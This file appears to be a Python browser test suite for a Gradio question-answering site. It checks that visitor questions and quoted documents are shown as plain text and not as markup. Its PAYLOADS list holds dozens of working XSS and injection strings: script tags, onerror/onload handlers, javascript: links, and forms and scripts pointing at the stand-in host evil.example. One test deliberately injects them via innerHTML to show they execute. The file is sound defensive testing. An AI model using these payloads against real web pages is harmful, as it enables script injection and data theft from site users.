"""What visitors and documents say is text: it runs nothing, loads nothing, and makes no part of a page.

The browser is told to leave the security policy of the pages aside, so that nothing but the writing of the pages
keeps these things out.
"""

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any
from urllib.parse import quote as percent_encode

import httpx
import pytest
from gradio_client import Client
from playwright.sync_api import Browser, Page, expect

from askalms.datatypes import Answer, Explanation, Place, Provenance, Quote, Reference
from askalms.rendering import one_line, to_json, visible
from askalms.texts import message
from site_with_fake import ANSWER, BOTH, QUOTE, FakeAnswerer, ask, box, status, wait_for_page

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<script>window.ran = 1</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg onload=window.ran=1><script>window.ran = 1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<details open ontoggle=window.ran=1><summary>s</summary></details>",
    "<video><source onerror=window.ran=1></video><marquee onstart=window.ran=1>",
    "<body onload=window.ran=1><x contenteditable autofocus onfocus=window.ran=1>",
    "<iframe src='javascript:parent.ran = 1'></iframe>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "<a href='javascript:window.ran=1'>link</a>",
    "<form action='https://evil.example/'><input name=q><button>Send</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>* { display: none !important } body { background: url(https://evil.example/b) }</style>",
    "<h1 id=question>Heading</h1><main></main><div role=alert aria-live=assertive>Hear me</div>",
    "<input id=status name=getElementById><img id=words name=querySelector><a id=spoken></a>",
    "<form id=ask><input name=action><input name=submit></form><form id=clinic></form>",
    '" autofocus onfocus="window.ran=1" onmouseover="window.ran=1" x="',
    "' autofocus onfocus='window.ran=1' onmouseover='window.ran=1' x='",
    "</textarea><script>window.ran = 1</script>",
    "</title></style></script><script>window.ran = 1</script>",
    "</p></blockquote></figure></article></main><h1>Outside</h1>",
    "<!-- comment --> --><script>window.ran = 1</script> <![CDATA[ x ]]> <?php x ?>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
    "<template><img src=x onerror=window.ran=1></template><slot name=x></slot>",
    "&lt;script&gt;window.ran = 1&lt;/script&gt; &#60;b&#62; &copy; &amp;amp;",
    "{{ 7 * 7 }} {% raw %} {# x #} ${7 * 7} <%= 7 * 7 %> #{7 * 7}",
    "{question} {number} {0} {__class__} %s %(message)s",
    "# Heading\n\nHeading again\n===\n\n---\n\n- one\n- two\n\n1. three",
    "**b** _i_ `c` ~~d~~ > q\n\n> quoted\n\na | b\n--|--\n1 | 2",
    "[link](javascript:window.ran=1) ![picture](https://evil.example/p.png)",
    "<https://evil.example> https://evil.example www.evil.example a@evil.example",
    "[ref]\n\n[ref]: https://evil.example 'title'",
    "```mermaid\ngraph TD\n```\n$$x$$ \\(y\\) %%%LATEX_BLOCK_0%%%",
    "<think>hidden</think> <thinking>hidden</thinking> <thinking>",
    "javascript:window.ran=1",
    "JaVaScRiPt&colon;window.ran=1",
    "data:text/html,<script>parent.ran=1</script>",
    "//evil.example/x",
    "https://user:word@evil.example/\"onmouseover=window.ran=1 '><b>",
    "line\u2028separator\u2029paragraph\x85next\x0btab\x0cform\r\nreturn",
    "\u202egnp.exe\u202c \u2066apart\u2069 \u200fright \u200bzero",
    "nul\x00 bell\x07 \x1b[31mred\x1b[0m \x9b31m",
    "__proto__ constructor toString hasOwnProperty",
    "W" * 700,
)

NEW_ELEMENTS = {
    *("article", "h3", "p", "br", "figure", "blockquote", "figcaption", "a", "label", "input", "button"),
    *("details", "summary", "dl", "dt", "dd", "ul", "li"),
}
NEW_ATTRIBUTES = {
    *("class", "id", "href", "rel", "type", "name", "form", "value", "formnovalidate", "aria-labelledby"),
    # Gradio gives links a window of their own.
    "target",
}

CENSUS = """() => {
    const kinds = ["mouseover", "focus", "toggle", "load", "error", "begin"];
    for (const one of document.querySelectorAll(".turn *, .asked, #status *"))
        for (const kind of kinds) one.dispatchEvent(new Event(kind));
    const all = (selector) => [...document.querySelectorAll(selector)];
    const inside = all(".turn, .turn *, .asked, .asked *");
    const ids = all("[id]").map((one) => one.id).filter(Boolean);
    return {
        ran: window.ran ?? 0,
        title: document.title, base: document.baseURI, lookup: typeof document.querySelector,
        scripts: document.scripts.length, forms: document.forms.length, frames: frames.length,
        outer: all("h1, h2, main, [role=main], [role=alert], iframe, object, embed, base, meta, style, link").length,
        ids: ids.filter((id) => !/^answer-\\d+$/.test(id)).sort().join(" "),
        twice: ids.filter((id, i) => ids.indexOf(id) < i && !id.includes("icon") && !id.includes("Transparent")),
        elements: [...new Set(inside.map((one) => one.localName))],
        attributes: [...new Set(inside.flatMap((one) => one.getAttributeNames()))],
        links: [...new Set(all(".turn a").map((one) => one.href))],
    };
}"""

Census = dict[str, Any]


def lines(text: str) -> list[str]:
    """What a reader sees of a text, line by line."""
    return [" ".join(line.split()) for line in visible(text).strip().splitlines()]


def batches(longest: int) -> list[str]:
    """All payloads, in questions that may be so long."""
    joined = [""]
    for payload in PAYLOADS:
        if len(joined[-1]) + len(payload) >= longest:
            joined.append("")
        joined[-1] = f"{joined[-1]} {payload}".strip()
    return joined


def hostile_answer() -> Answer:
    """One quote of each payload, whose page is called by it and leads to it, with all else that an answer may hold."""

    def hostile(payload: str, number: int) -> Quote:
        address = payload if number % 2 else f"https://example.org/{payload}"
        page = Provenance(payload, payload, address, payload)
        references = (Reference(payload, payload, payload, payload), Reference(f"R{payload}", url=address))
        return replace(
            QUOTE,
            document=payload,
            text=payload,
            provenance=page,
            heading=payload,
            also_in=(Place(payload, 0, 1),),
            written_from=references,
        )

    quotes = tuple(hostile(payload, number) for number, payload in enumerate(PAYLOADS))
    everything = " ".join(PAYLOADS)
    return replace(
        ANSWER,
        message=everything,
        quotes=quotes,
        explained=tuple(Explanation(quote.text, quote) for quote in quotes),
        ask_next=PAYLOADS,
        understood_as=everything,
        disclaimer=everything,
    )


@pytest.fixture
def unprotected(
    served: tuple[FakeAnswerer, str], answerer: FakeAnswerer, chromium: Browser
) -> Iterator[Callable[[str], tuple[Page, list[str]]]]:
    """Open a page in a browser that keeps no security policy; gives it with what was asked of other machines."""
    context = chromium.new_context(bypass_csp=True)
    outside: list[str] = []
    context.on(
        "request",
        lambda request: None if request.url.startswith((served[1], "data:", "blob:")) else outside.append(request.url),
    )

    def open_page(path: str) -> tuple[Page, list[str]]:
        page = context.new_page()
        page.goto(served[1] + path)
        wait_for_page(page)
        return page, outside

    yield open_page
    context.close()


def check(before: Census, after: Census) -> None:
    """Nothing ran, and the page has no part that our own writing of a turn does not make."""
    for same in ("ran", "title", "base", "lookup", "scripts", "forms", "frames", "outer", "ids"):
        assert after[same] == before[same], same
    assert after["ran"] == 0
    assert after["twice"] == []
    assert set(after["elements"]) <= NEW_ELEMENTS
    assert set(after["attributes"]) <= NEW_ATTRIBUTES
    assert [link for link in after["links"] if not link.startswith(("http://", "https://"))] == []


def test_what_runs_is_found(unprotected: Callable[[str], tuple[Page, list[str]]]):
    """Written without care, the payloads run, load, and change the page."""
    page, outside = unprotected("plain")
    before = page.evaluate(CENSUS)
    careless = """(payloads) => {
        const turns = document.querySelector("#turns");
        for (const payload of payloads) {
            const turn = document.createElement("div");
            turn.className = "turn";
            turns.append(turn);
            turn.innerHTML = payload;
        }
    }"""
    page.evaluate(careless, [one for one in PAYLOADS if "refresh" not in one and "<base" not in one])
    page.wait_for_timeout(200)
    after = page.evaluate(CENSUS)
    assert after["ran"] == 1
    assert outside
    # A picture by that name hides what pages look themselves up by.
    assert after["lookup"] == "object"
    with pytest.raises(AssertionError):
        check(before, after)


@pytest.mark.parametrize("path", BOTH, ids=["chat", "plain"])
def test_documents_are_text(unprotected: Callable[[str], tuple[Page, list[str]]], answerer: FakeAnswerer, path: str):
    """In quotes, titles, publishers, dates, names of files, addresses, hard words and next questions."""
    page, outside = unprotected(path)
    answerer.hostile = hostile_answer()
    ask(page, "Is it inherited?")
    before = page.evaluate(CENSUS)
    turn = ask(page, "a hostile one")
    after = page.evaluate(CENSUS)
    check(before, after)
    assert outside == []
    shown = turn.locator("blockquote").evaluate_all("all => all.map((one) => one.innerText)")
    assert [lines(text) for text in shown] == [lines(payload) for payload in PAYLOADS]
    captions = turn.locator("figcaption p:first-child").evaluate_all("all => all.map((one) => one.innerText)")
    for caption, payload in zip(captions, PAYLOADS, strict=True):
        assert f"From: {one_line(payload)}, {one_line(payload)}, reviewed {one_line(payload)}" in one_line(caption)
    values = turn.locator("button.ask-next").evaluate_all("all => all.map((one) => one.textContent)")
    assert [one_line(value) for value in values] == [one_line(payload) for payload in PAYLOADS]
    assert one_line(status(page).text_content() or "").startswith(one_line(answerer.hostile.message))


@pytest.mark.parametrize("path", BOTH, ids=["chat", "plain"])
def test_questions_are_text(unprotected: Callable[[str], tuple[Page, list[str]]], answerer: FakeAnswerer, path: str):
    """Answered, taken as typed, failing, refused, and as the earlier turns of the next question."""
    page, outside = unprotected(path)
    ask(page, "Is it inherited?")
    before = page.evaluate(CENSUS)
    # What a browser itself would not let into a box.
    typed = [batch.replace("\x00", "").replace("\r\n", "\n") for batch in batches(1900)]
    for number, question in enumerate(typed, start=2):
        heading = ask(page, question).locator("h3")
        told = message("page.answer_to", number=number, question=question)
        assert one_line(heading.inner_text()) == one_line(told)
    page.locator("button.as-typed").last.click()
    expect(page.locator(".turn")).to_have_count(len(typed) + 2)
    ask(page, f"a broken one {typed[0]}")
    everything = "\n".join(typed)
    box(page).fill(everything)
    box(page).press("Enter")
    expect(page.locator("#status")).to_contain_text(f"{len(everything):,}")
    expect(box(page)).to_have_value(everything)
    ask(page, "And then?")
    check(before, page.evaluate(CENSUS))
    assert outside == []
    earlier = ["Is it inherited?", *typed, typed[-1]]
    assert answerer.asked[-1] == ("And then?", tuple(earlier))
    assert answerer.as_typed[-3:] == [True, False, False]
    assert answerer.asked[-3] == (typed[-1], tuple(earlier[:-1]))


def test_questions_are_text_on_a_page_that_comes_whole_from_the_server(
    unprotected: Callable[[str], tuple[Page, list[str]]], answerer: FakeAnswerer
):
    """As it is used without script: the question, the earlier ones, a question that is refused, an answer."""
    page, outside = unprotected("plain")
    answerer.hostile = hostile_answer()
    submit = """(fields) => {
        const form = document.createElement("form");
        Object.assign(form, { method: "post", action: "plain" });
        for (const [name, value] of fields) {
            const field = document.createElement("textarea");
            Object.assign(field, { name, value });
            form.append(field);
        }
        document.body.append(form);
        form.submit();
    }"""

    def post(**fields: list[str]) -> Census:
        with page.expect_navigation():
            page.evaluate(submit, [[name, value] for name, values in fields.items() for value in values])
        wait_for_page(page)
        census: Census = page.evaluate(CENSUS)
        return census

    before = post(question=["Is it inherited?"])
    turns = [payload.replace("\r\n", "\n").replace("\x00", "") for payload in PAYLOADS[:20]]
    # Any number is taken, and nothing else in its place.
    for number in ("7", '"><script>window.ran = 1</script>'):
        check(before, post(question=["a hostile one"], turn=turns, number=[number]))
        kept = page.locator("input[name=turn]").evaluate_all("all => all.map((one) => one.value)")
        assert kept == [*turns[1:], "a hostile one"]
    everything = " ".join(PAYLOADS).replace("\r\n", "\n").replace("\x00", "")
    check(before, post(question=[everything], turn=[PAYLOADS[0]]))
    expect(box(page)).to_have_value(everything)
    check(before, post(as_typed=[everything[:1900]]))
    check(before, post(next=[everything[:1900]]))
    assert outside == []


def test_programs_get_every_character_and_no_page_shows_it(
    served: tuple[FakeAnswerer, str], answerer: FakeAnswerer, unprotected: Callable[[str], tuple[Page, list[str]]]
):
    """JSON is sent as what it is, is data to the last control, and stays with who asked."""
    answerer.hostile = hostile_answer()
    client = Client(served[1], verbose=False)
    found = client.predict(question=f"hostile {PAYLOADS[0]}", history=list(PAYLOADS), api_name="/ask")
    assert found == json.loads(json.dumps(to_json(answerer.hostile)))
    assert answerer.asked[-1] == (f"hostile {PAYLOADS[0]}", PAYLOADS)
    asked = {"data": ["a hostile one", list(PAYLOADS)]}
    event = httpx.post(f"{served[1]}gradio_api/call/ask", json=asked).json()["event_id"]
    reply = httpx.get(f"{served[1]}gradio_api/call/ask/{event}")
    assert reply.headers["content-type"].startswith("text/event-stream")
    assert reply.headers["x-content-type-options"] == "nosniff"
    for path in BOTH:
        page, outside = unprotected(path)
        assert page.locator(".turn").count() == 0
        assert page.evaluate("window.ran ?? 0") == 0
        assert outside == []


@pytest.mark.parametrize("start", ["", "plain", "accessibility", "source/", "askalms/", "nothing/"])
def test_addresses_are_text(served: tuple[FakeAnswerer, str], start: str):
    """Neither what stands in an address nor the name of the host comes back as markup."""
    payload = "\"'><script>window.ran = 1</script>"
    for path in (f"{start}?question={percent_encode(payload)}&__theme={percent_encode(payload)}", start):
        tail = percent_encode(payload) if path == start and path.endswith("/") else ""
        reply = httpx.get(f"{served[1]}{path}{tail}", headers={"x-forwarded-host": payload, "referer": payload})
        assert "<script>window.ran" not in reply.text
        assert "'><script" not in reply.text
